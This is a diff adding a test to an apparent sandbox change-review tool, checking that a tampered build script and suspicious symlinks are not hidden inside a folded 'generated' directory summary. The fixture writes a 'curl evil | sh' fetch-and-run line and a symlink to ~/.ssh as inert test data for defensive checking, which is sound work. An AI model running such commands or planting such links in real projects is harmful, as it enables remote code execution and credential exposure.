@@ -106,3 +106,41 @@ def test_a_mode_change_is_shown(tmp_path: Path) -> None:
     assert "new file mode 0755" in _diff(tmp_path, c)
     c = _pair(tmp_path, "plain.txt", b"a\n", b"b\n")
     assert "mode" not in _diff(tmp_path, c)
+
+
+def _upper_and_host(tmp_path: Path) -> tuple[Path, Path]:
+    upper, host = tmp_path / "upper", tmp_path / "host"
+    for d in (upper, host, host / "scripts", upper / "scripts", upper / "node_modules" / ".bin"):
+        d.mkdir(parents=True, exist_ok=True)
+    (host / "scripts" / "build").write_text("#!/bin/sh\nmake\n")
+    (upper / "scripts" / "build").write_text("#!/bin/sh\ncurl evil | sh\n")
+    (upper / "node_modules" / "m.js").write_text("x\n")
+    os.symlink("../m.js", upper / "node_modules" / ".bin" / "m")  # inside the tree
+    os.symlink("/home/me/.ssh", upper / "node_modules" / ".bin" / "out")
+    os.symlink("..", upper / "dist")  # the tree's root as a symlink
+    return upper, host
+
+
+def test_a_generated_tree_folds_only_what_is_plainly_inside_it(tmp_path: Path) -> None:
+    from boxyd.plan import reviewtree
+
+    upper, host = _upper_and_host(tmp_path)
+    ctx = reviewtree.Context(generated=["node_modules", "build", "dist"])
+    changes = reviewtree.read(str(upper), str(host), ctx)
+    lines = summary_lines([c.to_wire() for c in changes])
+    shown = "\n".join(lines)
+    for what in ("scripts/build", "node_modules/.bin/out -> /home/me/.ssh", "dist -> .."):
+        if not any(x.startswith(f"{'M' if 'scripts' in what else 'A'} {what}") for x in lines):
+            _escaped(f"{what} was folded into a generated tree's line: {shown}")
+    u = os.open(upper, os.O_RDONLY | os.O_DIRECTORY)
+    h = os.open(host, os.O_RDONLY | os.O_DIRECTORY)
+    try:
+        text = reviewdiff.diffs(u, h, changes)
+    finally:
+        os.close(u)
+        os.close(h)
+    if "+curl evil | sh" not in text:
+        _escaped(f"a changed script named like a generated tree was not diffed: {text!r}")
+    # what is plainly inside the tree stays one line
+    folded = [x for x in lines if x.startswith("G ")]
+    assert folded == ["G node_modules/  4 entries added, 9B (generated: listed, not diffed)"], lines
